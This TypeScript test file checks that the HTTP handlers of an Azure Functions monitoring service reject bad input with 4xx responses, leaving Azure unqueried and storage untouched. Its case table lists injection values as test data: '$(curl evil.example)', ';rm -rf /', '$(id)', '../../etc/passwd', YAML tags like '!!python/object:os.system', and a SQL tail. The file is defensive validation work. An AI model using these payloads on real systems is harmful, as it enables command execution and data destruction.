/**
 * Bad input through the HTTP handlers themselves, wired to the local Azure and Azurite: malformed JSON, wrong types,
 * oversized bodies, clusters that are not configured, shell metacharacters, YAML breakers, path traversal and
 * look-alike letters in bodies, route parameters and query strings. Each answer must be a 4xx whose message names
 * the problem, with no request to the local Azure and nothing written to storage (tables, entities, queue). The
 * services start cold (no cached cluster list), so a refusal that asked Azure first would show. Parser-level cases
 * are in test/unit/http; this checks what reaches the handler's dependencies.
 */
import '../../../cli/localAzure/trust.js';

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import type { HttpResponseInit, InvocationContext as Context } from '@azure/functions';

import { dumpQueues, dumpTables } from '../../../cli/demo/capture.js';
import { startLocalAzure } from '../../../cli/localAzure/harness.js';
import { clusterIdOf } from '../../../cli/localAzure/scenario.js';
import { shopCluster, SUBSCRIPTION } from '../../../cli/localAzure/scenarios.js';
import type { LocalAzure } from '../../../cli/localAzure/server.js';
import { getFinding, listFindings } from '../../../functions/findings.js';
import { getInvestigation, startInvestigation } from '../../../functions/investigations.js';
import { report } from '../../../functions/report.js';
import { type Config, loadConfig } from '../../../shared/config.js';
import { createMonitorServices, type MonitorServices } from '../../../shared/monitor/services.js';
import { type Azurite, startAzurite } from '../../helpers/azurite.js';
import { HttpRequest, InvocationContext } from '../../helpers/functionsRuntime.js';

const SHOP = clusterIdOf(shopCluster());
const NODE = 'aks-nodepool1-12345678-vmss000000';
const clusterNamed = (name: string, group = 'rg-shop', subscription = SUBSCRIPTION) =>
    `/subscriptions/${subscription}/resourceGroups/${group}/providers/Microsoft.ContainerService/managedClusters/${name}`;

type Call = (services: MonitorServices, context: Context) => Promise<HttpResponseInit>;

function post(body: string, headers: Record<string, string> = {}): Call {
    return (services, context) =>
        startInvestigation(
            new HttpRequest({
                method: 'POST',
                url: 'http://localhost/api/investigations',
                body: { string: body },
                headers,
            }),
            context,
            services,
        );
}

const postJson = (value: unknown): Call => post(JSON.stringify(value));

function findings(query: Record<string, string | string[]>): Call {
    const params = new URLSearchParams();
    for (const [name, value] of Object.entries(query)) {
        for (const one of Array.isArray(value) ? value : [value]) params.append(name, one);
    }
    return (services, context) =>
        listFindings(
            new HttpRequest({ method: 'GET', url: `http://localhost/api/findings?${params.toString()}` }),
            context,
            services,
        );
}

const findingById =
    (id: string): Call =>
    (services, context) =>
        getFinding(
            new HttpRequest({ method: 'GET', url: 'http://localhost/api/findings/x', params: { id } }),
            context,
            services,
        );

const investigationById =
    (id: string): Call =>
    (services, context) =>
        getInvestigation(
            new HttpRequest({ method: 'GET', url: 'http://localhost/api/investigations/x', params: { id } }),
            context,
            services,
        );

const reportFor =
    (hours: string): Call =>
    (services, context) =>
        report(
            new HttpRequest({
                method: 'GET',
                url: `http://localhost/api/report?${new URLSearchParams({ hours }).toString()}`,
            }),
            context,
            services,
        );

const RFC1123 = /"node" is not a Kubernetes node name/;
const NOT_AKS_ID = /"cluster" is not an AKS resource ID/;

/** [what, call, status, what the message must say]. */
const CASES: [string, Call, number, RegExp][] = [
    // POST /api/investigations: the body.
    ['malformed JSON', post('{"cluster": '), 400, /not valid JSON/],
    ['an empty body', post(''), 400, /not valid JSON/],
    ['JSON null', post('null'), 400, /Expected a JSON object/],
    ['a JSON string', post('"aks-node"'), 400, /Expected a JSON object/],
    ['a JSON array', post(`[${JSON.stringify(SHOP)}]`), 400, /Expected a JSON object/],
    ['cluster as a number', postJson({ cluster: 42, node: NODE }), 400, /"cluster" must be a string/],
    ['cluster as an object', postJson({ cluster: { id: SHOP }, node: NODE }), 400, /"cluster" must be a string/],
    ['node as a number', postJson({ cluster: SHOP, node: 7 }), 400, /"node" must be a string/],
    ['node as null', postJson({ cluster: SHOP, node: null }), 400, /"node" must be a string/],
    ['backendIp as a number', postJson({ cluster: SHOP, backendIp: 167772165 }), 400, /"backendIp" must be a string/],
    ['both node and backendIp', postJson({ cluster: SHOP, node: NODE, backendIp: '10.224.0.4' }), 400, /exactly one/],
    ['a misspelt field', postJson({ cluster: SHOP, nodeName: NODE }), 400, /Unknown field "nodeName"/],
    ['an extra command field', postJson({ cluster: SHOP, node: NODE, command: 'id' }), 400, /Unknown field "command"/],
    [
        'a __proto__ key',
        post(`{"cluster":${JSON.stringify(SHOP)},"__proto__":{"node":"x"}}`),
        400,
        /Unknown field "__proto__"/,
    ],
    ['an oversized body', postJson({ cluster: SHOP, node: NODE, pad: 'x'.repeat(9000) }), 413, /over 8192 bytes/],
    [
        'an oversized body of 3-byte characters',
        postJson({ cluster: SHOP, node: '€'.repeat(2800) }),
        413,
        /over 8192 bytes/,
    ],
    ['a Content-Length over the limit', post('{}', { 'content-length': '1000000000' }), 413, /over 8192 bytes/],
    [
        'a cluster that is not configured',
        postJson({ cluster: clusterNamed('not-ours'), node: NODE }),
        404,
        /not-ours is not monitored/,
    ],
    [
        'a cluster in another subscription',
        postJson({ cluster: clusterNamed('shop', 'rg-shop', '00000000-0000-4000-8000-000000000000'), node: NODE }),
        404,
        /shop is not monitored/,
    ],
    [
        'a look-alike resource group (Cyrillic е)',
        postJson({ cluster: clusterNamed('shop', 'rg-shоp'), node: NODE }),
        404,
        /not monitored/,
    ],
    [
        'a look-alike cluster name (Cyrillic ѕ)',
        postJson({ cluster: clusterNamed('ѕhop'), node: NODE }),
        400,
        /cluster name is 1 to 63 ASCII/,
    ],
    [
        'shell metacharacters in the cluster name',
        postJson({ cluster: clusterNamed('shop;id'), node: NODE }),
        400,
        /cluster name/,
    ],
    [
        'command substitution in the resource group',
        postJson({ cluster: clusterNamed('shop', '$(id)'), node: NODE }),
        400,
        /resource group name/,
    ],
    [
        'a subscription that is not a GUID',
        postJson({ cluster: clusterNamed('shop', 'rg-shop', '..'), node: NODE }),
        400,
        /subscription ID must be a GUID/,
    ],
    [
        'path traversal in the resource group',
        postJson({ cluster: clusterNamed('shop', '..'), node: NODE }),
        400,
        /resource group name/,
    ],
    ['path traversal after the cluster ID', postJson({ cluster: `${SHOP}/../../other`, node: NODE }), 400, NOT_AKS_ID],
    [
        'an encoded traversal in the cluster name',
        postJson({ cluster: clusterNamed('%2e%2e'), node: NODE }),
        400,
        /cluster name/,
    ],
    [
        'a cluster ID over 1024 characters',
        postJson({ cluster: clusterNamed('a'.repeat(1100)), node: NODE }),
        400,
        NOT_AKS_ID,
    ],
    ['shell metacharacters in the node', postJson({ cluster: SHOP, node: `${NODE};rm -rf /` }), 400, RFC1123],
    ['command substitution in the node', postJson({ cluster: SHOP, node: '$(curl evil.example)' }), 400, RFC1123],
    ['backticks in the node', postJson({ cluster: SHOP, node: '`id`' }), 400, RFC1123],
    ['a pipe in the node', postJson({ cluster: SHOP, node: 'a|sh' }), 400, RFC1123],
    ['a YAML document break in the node', postJson({ cluster: SHOP, node: 'aks-1\n---\nkind: Pod' }), 400, RFC1123],
    ['a YAML mapping in the node', postJson({ cluster: SHOP, node: 'aks-1\nspec:\n  hostPID: true' }), 400, RFC1123],
    ['a YAML flow breaker in the node', postJson({ cluster: SHOP, node: 'a: {b' }), 400, RFC1123],
    ['a YAML anchor in the node', postJson({ cluster: SHOP, node: '&x aks-1' }), 400, RFC1123],
    ['a YAML tag in the node', postJson({ cluster: SHOP, node: '!!python/object:os.system' }), 400, RFC1123],
    ['a quote in the node', postJson({ cluster: SHOP, node: "aks-1'" }), 400, RFC1123],
    ['path traversal in the node', postJson({ cluster: SHOP, node: '../../etc/passwd' }), 400, RFC1123],
    ['a NUL byte in the node', postJson({ cluster: SHOP, node: 'aks-1\u0000' }), 400, RFC1123],
    ['a zero-width space in the node', postJson({ cluster: SHOP, node: 'aks\u200b-nodepool1' }), 400, RFC1123],
    ['a look-alike node name (Cyrillic а)', postJson({ cluster: SHOP, node: NODE.replace('a', 'а') }), 400, RFC1123],
    ['fullwidth digits in the node', postJson({ cluster: SHOP, node: 'aks-１' }), 400, RFC1123],
    ['a node name over 253 characters', postJson({ cluster: SHOP, node: 'a'.repeat(254) }), 400, RFC1123],
    ['an IP with a shell tail', postJson({ cluster: SHOP, backendIp: '10.224.0.4;id' }), 400, /not an IPv4 or IPv6/],
    ['an IP with a port', postJson({ cluster: SHOP, backendIp: '10.224.0.4:443' }), 400, /not an IPv4 or IPv6/],
    ['a host name for an IP', postJson({ cluster: SHOP, backendIp: 'metadata.internal' }), 400, /not an IPv4 or IPv6/],

    // GET /api/findings: the query string.
    ['findings without a cluster', findings({}), 400, /"cluster" \(an AKS resource ID\) is required/],
    ['findings for a cluster that is no ID', findings({ cluster: 'shop' }), 400, NOT_AKS_ID],
    [
        'findings with traversal in the cluster',
        findings({ cluster: clusterNamed('..', '..') }),
        400,
        /resource group name/,
    ],
    ['findings with a look-alike cluster name', findings({ cluster: clusterNamed('ѕhop') }), 400, /cluster name/],
    [
        'findings with the cluster given twice',
        findings({ cluster: [SHOP, clusterNamed('other')] }),
        400,
        /"cluster" is given 2 times/,
    ],
    ['findings with shell in the node', findings({ cluster: SHOP, node: '$(id)' }), 400, RFC1123],
    ['findings with a YAML break in the node', findings({ cluster: SHOP, node: 'a\n---' }), 400, RFC1123],
    ['findings with traversal in the node', findings({ cluster: SHOP, node: '../x' }), 400, RFC1123],
    ['findings with a look-alike node', findings({ cluster: SHOP, node: NODE.replace('a', 'а') }), 400, RFC1123],
    [
        'findings with the node given twice',
        findings({ cluster: SHOP, node: [NODE, '$(id)'] }),
        400,
        /"node" is given 2 times/,
    ],
    [
        'a pageSize of 0',
        findings({ cluster: SHOP, pageSize: '0' }),
        400,
        /"pageSize" must be a whole number from 1 to 1000/,
    ],
    ['a pageSize of 1001', findings({ cluster: SHOP, pageSize: '1001' }), 400, /"pageSize"/],
    ['a negative pageSize', findings({ cluster: SHOP, pageSize: '-5' }), 400, /"pageSize"/],
    ['a fractional pageSize', findings({ cluster: SHOP, pageSize: '1.5' }), 400, /"pageSize"/],
    ['a pageSize in exponent form', findings({ cluster: SHOP, pageSize: '1e2' }), 400, /"pageSize"/],
    ['a pageSize in hex', findings({ cluster: SHOP, pageSize: '0x10' }), 400, /"pageSize"/],
    ['a pageSize with a space', findings({ cluster: SHOP, pageSize: ' 10' }), 400, /"pageSize"/],
    ['a pageSize that is a word', findings({ cluster: SHOP, pageSize: 'all' }), 400, /"pageSize"/],
    [
        'a since that is a word',
        findings({ cluster: SHOP, since: 'yesterday' }),
        400,
        /"since" must be an ISO 8601 time/,
    ],
    ['a since with a SQL tail', findings({ cluster: SHOP, since: "2026-01-01T00:00:00Z' or 1=1" }), 400, /"since"/],
    ['a since that is no date', findings({ cluster: SHOP, since: '2026-13-45' }), 400, /"since"/],
    ['a since on a day the month lacks', findings({ cluster: SHOP, since: '2026-02-31' }), 400, /"since"/],
    ['a since with no zone', findings({ cluster: SHOP, since: '2026-01-01T10:00:00' }), 400, /"since"/],
    [
        'an until that is a number',
        findings({ cluster: SHOP, until: '1700000000' }),
        400,
        /"until" must be an ISO 8601 time/,
    ],
    [
        'a since later than until',
        findings({ cluster: SHOP, since: '2026-02-01T00:00:00Z', until: '2026-01-01T00:00:00Z' }),
        400,
        /"since" is later than "until"/,
    ],
    [
        'a continuation token that is not base64',
        findings({ cluster: SHOP, continuationToken: '../../x' }),
        400,
        /"continuationToken" is not one this API returned/,
    ],
    [
        'a continuation token that is not JSON',
        findings({ cluster: SHOP, continuationToken: Buffer.from('{oops').toString('base64') }),
        400,
        /"continuationToken"/,
    ],
    [
        'a continuation token of the wrong shape',
        findings({ cluster: SHOP, continuationToken: Buffer.from('{"nextPartitionKey":1,"x":2}').toString('base64') }),
        400,
        /"continuationToken"/,
    ],
    [
        'a continuation token over 2048 characters',
        findings({ cluster: SHOP, continuationToken: 'A'.repeat(3000) }),
        400,
        /"continuationToken"/,
    ],

    // Route parameters.
    ['a finding ID with traversal', findingById('../../snatmonInvestigations'), 400, /Expected a finding ID/],
    [
        'a finding ID with a look-alike',
        findingById('shop-0123456789abcdef~9999999999999-аbc'),
        400,
        /Expected a finding ID/,
    ],
    ['a finding ID over 512 characters', findingById(`x~${'1'.repeat(600)}`), 400, /Expected a finding ID/],
    ['an investigation ID with traversal', investigationById('../inv-1'), 400, /Expected an investigation ID/],
    ['an investigation ID with shell', investigationById('inv-$(id)'), 400, /Expected an investigation ID/],
    ['an empty investigation ID', investigationById(''), 400, /Expected an investigation ID/],

    // GET /api/report.
    ['report hours of 0', reportFor('0'), 400, /"hours" must be a whole number from 1 to 744/],
    ['report hours over a month', reportFor('745'), 400, /"hours"/],
    ['report hours in hex', reportFor('0x18'), 400, /"hours"/],
    ['report hours in exponent form', reportFor('1e1'), 400, /"hours"/],
    ['report hours with a shell tail', reportFor('24;id'), 400, /"hours"/],
    ['empty report hours', reportFor(''), 400, /"hours"/],
];

interface Snapshot {
    azureRequests: number;
    tables: string[];
    queues: string[];
}

describe('bad input over HTTP, through the handlers', () => {
    let azure: LocalAzure;
    let azurite: Azurite;
    let config: Config;
    const logs: string[] = [];

    const context = (): Context =>
        new InvocationContext({
            functionName: 'http',
            logHandler: (level, ...args) => logs.push(`${level}: ${args.map(String).join(' ')}`),
        });

    async function snapshot(): Promise<Snapshot> {
        const [tables, queues] = await Promise.all([
            dumpTables(azurite.connectionString),
            dumpQueues(azurite.connectionString),
        ]);
        return {
            azureRequests: azure.requests.length,
            tables: [`${tables.tables} tables`, ...tables.lines],
            queues: [`${queues.queues} queues`, ...queues.lines],
        };
    }

    before(async () => {
        [azure, azurite] = await Promise.all([
            startLocalAzure({ clusters: [shopCluster()] }),
            startAzurite({ services: ['table', 'queue'] }),
        ]);
        config = loadConfig({
            SNATMON_CLUSTERS: SHOP,
            SNATMON_ARM_ENDPOINT: azure.armEndpoint,
            AzureWebJobsStorage: azurite.connectionString,
        });
    });

    after(async () => {
        await Promise.all([azure.close(), azurite.stop()]);
    });

    it(`answers ${CASES.length} kinds of bad input with a 4xx naming the problem, asking Azure nothing and storing nothing`, async (t) => {
        const wrong: string[] = [];
        for (const [what, call, status, message] of CASES) {
            // Fresh services each time: no cluster list or node list cached, so asking Azure first would show.
            const cold = createMonitorServices(config);
            const before = await snapshot();
            const answer = await call(cold, context());
            const body = JSON.stringify(answer.jsonBody);
            const said = (answer.jsonBody as { error?: { message?: string } } | undefined)?.error?.message ?? '';
            if (answer.status !== status || !message.test(said)) {
                wrong.push(`${what}: expected ${status} ${String(message)}, got ${String(answer.status)} ${body}`);
            }
            const after = await snapshot();
            const asked = after.azureRequests - before.azureRequests;
            if (asked !== 0) wrong.push(`${what}: ${asked} requests to the local Azure`);
            if (JSON.stringify(after.tables) !== JSON.stringify(before.tables)) wrong.push(`${what}: tables changed`);
            if (JSON.stringify(after.queues) !== JSON.stringify(before.queues)) wrong.push(`${what}: queue changed`);
        }
        assert.deepEqual(wrong, []);
        assert.equal(azure.requests.length, 0);
        // Refusals are the caller's mistake, not the app's: nothing logged as an error.
        assert.deepEqual(
            logs.filter((line) => line.startsWith('error')),
            [],
        );
        t.diagnostic(`${CASES.length} cases; local Azure requests: 0; tables and queue unchanged`);
    });

    it('would have seen a request or a write: a valid request makes both (control)', async () => {
        const services = createMonitorServices(config);
        const before = await snapshot();
        const accepted = await postJson({ cluster: SHOP, node: NODE })(services, context());
        assert.equal(accepted.status, 202, JSON.stringify(accepted.jsonBody));
        const after = await snapshot();
        assert.ok(after.azureRequests > 0);
        assert.notDeepEqual(after.tables, before.tables);
        assert.equal(after.queues.length, before.queues.length + 1);
        const listed = await findings({ cluster: SHOP, node: NODE, pageSize: '10', since: '2026-01-01' })(
            services,
            context(),
        );
        assert.equal(listed.status, 200, JSON.stringify(listed.jsonBody));
        const html = await reportFor('24')(services, context());
        assert.equal(html.status, 200);
    });
});
